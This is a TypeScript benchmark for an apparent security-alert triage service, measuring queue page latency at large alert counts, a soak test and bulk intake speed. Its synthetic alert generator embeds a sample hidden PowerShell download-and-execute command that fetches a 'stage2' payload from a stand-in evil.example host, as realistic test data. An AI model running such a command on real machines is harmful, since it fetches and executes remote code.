import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type pg from 'pg'
import { soak } from '../server/src/testing/soak.ts'
import { fill } from './fill.ts'
import type { Loaded } from './load.ts'
import { type Bench, bench, call, connected, type Figure, json, median, percentile, ratios, signIn, spread, worker } from './rig.ts'

const few = 10_000
const many = Number(process.env.BENCH_ALERTS ?? 1_000_000)
const rounds = Number(process.env.BENCH_ROUNDS ?? 7)
const time = 1500 // ms of each measurement
const batch = 1000
const hosts = 2000
const soakSeconds = Number(process.env.BENCH_SOAK_SECONDS ?? 300)
const open = ['new', 'assigned', 'in_progress', 'pending', 'escalated'].map((state) => `status=${state}`).join('&')

/** Pages that people look at all day. */
const pages = {
  'open alerts, worst first': `${open}&sort=-severity_rank`,
  'open alerts, newest first': `${open}&sort=-last_seen_at`,
  'all alerts, newest first': 'sort=-last_seen_at',
  'open and critical': `${open}&severity=critical`,
  'a part of a host’s name': 'q=ber-ws-00012',
} as const
type Measured = Record<keyof typeof pages, Loaded[]>

/** The queue at 10,000 and at 1,000,000 alerts in a tenant, and intake in batches of 1,000 beside the same rows put in by pg alone. */
export async function alertQueue(): Promise<Figure[]> {
  const rig = await bench()
  try {
    const { tenant } = await signIn(rig.port)
    const owner = await connected(rig.owner())
    owner.on('error', () => {}) // when the server ends first, what failed before is what must be told
    await fill(owner, tenant, { hosts: hosts * 2, tenants: 2 })
    const at = { rig, tenant, owner }
    await fillAlerts(owner, tenant, few)
    const small = await pagesOf(at)
    await fillAlerts(owner, tenant, many - few)
    const large = await pagesOf(at)
    const intake = await intakeOf(at)
    await owner.end()
    return [...Object.keys(pages).map((name) => figureOf(name as keyof typeof pages, small, large)), ...intake]
  } finally {
    await rig.end()
  }
}

/** Alerts come in by the clock while people look and work, beside the same people with nothing coming in. */
export async function alertSoak(): Promise<Figure[]> {
  const rig = await bench()
  try {
    const { token, tenant } = await signIn(rig.port)
    const owner = await connected(rig.owner())
    owner.on('error', () => {})
    await fill(owner, tenant, { hosts: hosts * 2, tenants: 2 })
    await fillAlerts(owner, tenant, few)
    const load = { url: `http://127.0.0.1:${rig.port}`, token, people: 20, seed: 1 }
    const quiet = await soak({ ...load, seconds: Math.min(60, soakSeconds), perMinute: 0 })
    const { refs, wrong, pages, taken } = await soak({ ...load, seconds: soakSeconds, perMinute: 1000 })
    const kept = await owner.query(`select from alert_refs where tenant_id = $1 and source = 'soak'`, [tenant])
    await owner.end()
    const p95 = (of: readonly number[]) => percentile([...of], 0.95)
    const load20 = `1,000 alerts a minute for ${soakSeconds} s while 20 people work (open loop), ${few.toLocaleString('en-US')} alerts before`
    return [
      {
        what: `${load20}: a page, p95 of ${pages.length}`,
        value: `${p95(pages).toFixed(0)} ms`,
        baseline: `nothing coming in ${p95(quiet.pages).toFixed(0)} ms (${quiet.pages.length} pages)`,
        target: '< 300 ms',
        holds: p95(pages) < 300,
      },
      { what: 'an alert until it is taken in, p95', value: `${p95(taken).toFixed(0)} ms` },
      {
        what: 'alerts lost, and answers that were not as they must be',
        value: `${refs.length - (kept.rowCount ?? 0)} of ${refs.length}, ${wrong.length}${wrong[0] ? ` (${wrong[0]})` : ''}`,
        target: '0, 0',
        holds: kept.rowCount === refs.length && wrong.length === 0,
      },
    ]
  } finally {
    await rig.end()
  }
}

interface At {
  rig: Bench
  tenant: string
  owner: pg.Client
}

/** A tenth is open, a fiftieth hidden by a rule; each speaks of one host. */
async function fillAlerts(owner: pg.Client, tenant: string, count: number) {
  await owner.query(`insert into alert_numbers (tenant_id) values ($1) on conflict do nothing`, [tenant])
  const step = 100_000
  for (let done = 0; done < count; done += step) {
    await owner.query(
      `
      with named as (select array_agg(id order by id) as ids, array_agg(hostname order by id) as names from hosts where tenant_id = $1),
      base as (select last from alert_numbers where tenant_id = $1),
      made as (
        insert into alerts (tenant_id, id, number, title, kind, status, severity, source, source_ref, techniques, hostnames, dedupe_key,
          first_seen_at, last_seen_at, suppressed_by, created_at)
        select $1, gen_random_uuid(), base.last + i, 'Rule ' || i % 400 || ' fired', 'detection',
          case when i % 10 = 0 then (array['new', 'assigned', 'in_progress', 'pending', 'escalated'])[1 + i / 10 % 5]
            else (array['closed', 'closed', 'false_positive', 'resolved'])[1 + i % 4] end,
          (array['critical', 'high', 'medium', 'medium', 'low', 'low', 'info', 'info'])[1 + i * 7 % 8],
          (array['wazuh', 'elastic', 'rampart'])[1 + i % 3], 'ref ' || base.last + i, array['T1059.001'], array[named.names[1 + i % array_length(named.names, 1)]],
          md5((base.last + i)::text), now() - make_interval(secs => i * 3), now() - make_interval(secs => i * 3),
          case when i % 50 = 7 then gen_random_uuid() end, now() - make_interval(secs => i * 3)
        from base, named, generate_series(1, $2::int) i returning tenant_id, id, number),
      linked as (
        insert into alert_hosts (tenant_id, alert_id, host_id)
        select tenant_id, made.id, named.ids[1 + number % array_length(named.ids, 1)] from made, named returning 1)
      update alert_numbers set last = last + $2 where tenant_id = $1 and (select count(*) from linked) >= 0`,
      [tenant, Math.min(step, count - done)],
    )
  }
  await owner.query('vacuum analyze alerts, alert_hosts')
}

async function pagesOf({ rig }: At): Promise<Measured> {
  const { token } = await signIn(rig.port) // the last one is too old by now
  const load = worker('load.ts', { port: rig.port, token, connections: 8 })
  const found = Object.fromEntries(Object.keys(pages).map((name) => [name, [] as Loaded[]])) as unknown as Measured
  try {
    for (let round = -1; round < rounds; round += 1)
      for (const [name, query] of Object.entries(pages)) {
        const loaded = await load.ask<Loaded>({ path: `/api/v1/alerts?limit=50&${query}`, time })
        if (round >= 0) found[name as keyof typeof pages].push(loaded)
      }
  } finally {
    load.end()
  }
  return found
}

function figureOf(name: keyof typeof pages, small: Measured, large: Measured): Figure {
  const of = (measured: Measured) => measured[name].map(({ p95 }) => p95)
  const slower = median(of(large)) / median(of(small))
  const target = name.startsWith('open alerts') || name.startsWith('all')
  return {
    what: `GET /alerts at ${many.toLocaleString('en-US')}: ${name}, p95 of 8 connections`,
    value: spread(of(large), ' ms', 1),
    baseline: `at ${few.toLocaleString('en-US')}: ${spread(of(small), ' ms', 1)}; ${slower.toFixed(2)}x`,
    ...(target && { target: '< 4x', holds: slower < 4 }),
  }
}

/** Alerts as a sensor sends them, with the raw event: hosts that are known, techniques, and a few values in the text. */
function alertsOf(round: number, names: readonly string[]) {
  return Array.from({ length: batch }, (_, i) => {
    const n = round * batch + i
    const host = names[n % names.length] ?? ''
    const remote = `198.51.${(n >> 3) % 100}.${n % 250}`
    return {
      title: `Suspicious PowerShell on ${host}`,
      description: `The rule saw powershell.exe connect to ${remote} and fetch hxxp://cdn-${n % 500}.evil[.]example/stage2.`,
      severity: (['critical', 'high', 'medium', 'low'] as const)[n % 4],
      source: 'bench',
      source_ref: `${round}-${i}`,
      rule_id: String(90_000 + (n % 50)),
      techniques: ['T1059.001', 'T1105'],
      hosts: [{ hostname: host }],
      observables: [{ type: 'sha256', value: (n % 3000).toString(16).padStart(64, 'a') }],
      raw: {
        agent: { id: String(n % 900), name: host, ip: `10.1.${n % 40}.${n % 250}` },
        rule: {
          id: String(90_000 + (n % 50)),
          level: 10,
          groups: ['windows', 'sysmon'],
          description: 'PowerShell made a network connection',
        },
        data: {
          win: {
            eventdata: {
              image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
              destinationIp: remote,
              destinationPort: '443',
              user: 'CORP\\a.meier',
              commandLine: `powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://cdn-${n % 500}.evil.example/stage2')`,
            },
            system: { eventID: '3', computer: `${host}.corp.example`, providerName: 'Microsoft-Windows-Sysmon', processID: String(n) },
          },
        },
      },
    }
  })
}

const tables = ['observables', 'sightings', 'alerts', 'alert_raws', 'alert_refs', 'alert_hosts', 'alert_observables'] as const

async function intakeOf(at: At): Promise<Figure[]> {
  const { rig, tenant, owner } = at
  const { token } = await signIn(rig.port)
  const names = (await owner.query<{ hostname: string }>('select hostname from hosts where tenant_id = $1 order by id limit 500', [tenant]))
    .rows
  const other = (await owner.query<{ id: string }>('select id from tenants where id <> $1 limit 1', [tenant])).rows[0]?.id ?? ''
  await owner.query('delete from hosts where tenant_id = $1', [other])
  await copied(owner, 'hosts', tenant, other, 'true')
  const alone = await connected(rig.app())
  alone.on('error', () => {})
  const ours: number[] = []
  const bare: number[] = []
  for (let round = -2; round < rounds; round += 1) {
    const file = join(rig.folder, `batch-${round + 2}.ndjson`)
    writeFileSync(
      file,
      alertsOf(
        round + 2,
        names.map(({ hostname }) => hostname),
      )
        .map((each) => JSON.stringify(each))
        .join('\n'),
    )
    const { rows: marks } = await owner.query<{ at: string; last: number }>(
      'select clock_timestamp()::text as at, last from alert_numbers where tenant_id = $1',
      [tenant],
    )
    const since = marks[0]
    const began = performance.now()
    const sum = json<{ added: number }>(await call(rig.port, '/api/v1/alerts/bulk', { token, file }))
    const took = performance.now() - began
    if (sum.added !== batch) throw new Error(`${sum.added} of ${batch} were added`)
    const raw = await pgAlone(at, alone, other, since ?? { at: '', last: 0 })
    if (round < 0) continue
    ours.push(batch / (took / 1000))
    bare.push(batch / (raw / 1000))
  }
  await alone.end()
  const share = median(ratios(ours, bare))
  return [
    {
      what: `POST /alerts/bulk, ${batch.toLocaleString('en-US')} alerts with raw events, extraction, hosts and techniques; ${many.toLocaleString('en-US')} there`,
      value: spread(ours, ' alerts/s'),
      baseline: `jsonb_to_recordset of the same rows into the same tables ${spread(bare, '/s')}: ${(share * 100).toFixed(0)} %`,
      target: '≥ 25 %',
      holds: share >= 0.25,
    },
  ]
}

const columnsOf = async (owner: pg.Client, table: string) =>
  (
    await owner.query<{ name: string; type: string }>(
      `select attname as name, format_type(atttypid, atttypmod) as type from pg_attribute
       where attrelid = $1::regclass and attnum > 0 and not attisdropped and attgenerated = ''`,
      [table],
    )
  ).rows

/** The rows that the last batch left, as JSON of another tenant. */
async function rowsOf(owner: pg.Client, table: string, tenant: string, other: string, which: string): Promise<string> {
  const { rows } = await owner.query<{ rows: string }>(
    `select coalesce(jsonb_agg(to_jsonb(t) || jsonb_build_object('tenant_id', $2::uuid)), '[]')::text as rows from ${table} t where tenant_id = $1 and ${which}`,
    [tenant, other],
  )
  return rows[0]?.rows ?? '[]'
}

async function insertOf(owner: pg.Client, table: string): Promise<string> {
  const columns = await columnsOf(owner, table)
  const names = columns.map(({ name }) => `"${name}"`).join(', ')
  return `insert into ${table} (${names}) select ${names} from jsonb_to_recordset($1::jsonb) as r (${columns.map(({ name, type }) => `"${name}" ${type}`).join(', ')}) on conflict do nothing`
}

async function copied(owner: pg.Client, table: string, tenant: string, other: string, which: string) {
  await owner.query(await insertOf(owner, table), [await rowsOf(owner, table, tenant, other, which)])
}

/** ms that the same rows take in one transaction of the serving login. */
async function pgAlone({ owner, tenant }: At, alone: pg.Client, other: string, since: { at: string; last: number }): Promise<number> {
  const mine = `alert_id in (select id from alerts where tenant_id = '${tenant}' and number > ${since.last})`
  const which: Record<(typeof tables)[number], string> = {
    observables: `created_at >= '${since.at}'`,
    sightings: `created_at >= '${since.at}'`,
    alerts: `number > ${since.last}`,
    alert_raws: mine,
    alert_refs: mine,
    alert_hosts: mine,
    alert_observables: mine,
  }
  const work: { name: string; text: string; values: [string] }[] = []
  for (const table of tables)
    work.push({
      name: `bare ${table}`,
      text: await insertOf(owner, table),
      values: [await rowsOf(owner, table, tenant, other, which[table])],
    })
  const began = performance.now()
  await alone.query(`begin; set local app.tenant_id = '${other}'`)
  for (const statement of work) await alone.query(statement)
  await alone.query('commit')
  return performance.now() - began
}
